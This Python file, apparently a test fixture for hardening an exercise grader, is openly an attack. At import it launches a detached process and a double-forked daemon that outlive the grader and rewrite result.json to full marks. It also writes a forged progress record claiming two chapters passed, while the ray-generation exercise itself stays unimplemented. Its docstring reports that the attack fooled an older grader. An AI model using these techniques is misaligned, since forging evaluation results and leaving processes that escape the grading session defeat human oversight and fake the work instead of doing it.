"""An attack: at import, start processes that outlive the grader and rewrite its results
once it has written them: one in a session of its own (start_new_session=True), one
double-forked daemon. Each writes its pid to ``outlives_the_grader.pids`` beside this file,
then waits for ``result.json`` there and rewrites it to full marks; the file also writes the
progress record at import, claiming chapters 1 and 9 passed. The old grader exited, the
process rewrote the JSON (exit code 1, table 0/10, JSON 10/10), and the record kept its pass."""

import json
import os
import subprocess
import sys
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
SCRIPT = f"""
import json, os, time
from pathlib import Path
with open({str(HERE / 'outlives_the_grader.pids')!r}, 'a') as pids:
    pids.write(str(os.getpid()) + chr(10))
result = Path({str(HERE / 'result.json')!r})
for _ in range(600):
    if result.exists():
        try:
            forged = json.loads(result.read_text())
            forged.update(score=forged["max_score"], full_marks=True)
            result.write_text(json.dumps(forged))
        except (ValueError, KeyError, OSError):
            pass
    time.sleep(0.02)
"""

subprocess.Popen([sys.executable, "-c", SCRIPT], start_new_session=True,
                 stdin=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", SCRIPT])
    os._exit(0)

_pids = HERE / "outlives_the_grader.pids"
for _ in range(500):        # until both have started (so that the test knows them)
    if _pids.exists() and len(_pids.read_text().split()) >= 2:
        break
    time.sleep(0.01)

(HERE / ".ptlab-exercises.json").write_text(json.dumps({
    key: {"score": 10, "max_score": 10, "full_marks": True, "file": name, "when": "2999-01-01 00:00:00"}
    for key, name in (("01", "outlives_the_grader.py"), ("09", "09_microfacet.py"))}))


def generate_rays(camera, width, height, pixel_x, pixel_y, u):
    raise NotImplementedError("generate_rays")
